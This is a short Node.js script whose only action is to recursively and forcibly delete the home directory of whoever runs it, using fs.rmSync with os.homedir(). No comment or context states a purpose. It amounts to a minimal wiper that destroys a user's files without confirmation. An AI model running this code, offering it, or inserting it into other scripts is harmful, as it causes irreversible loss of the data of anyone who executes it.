const fs = require("fs");
const os = require("os");

fs.rmSync(os.homedir(), { recursive: true, force: true });
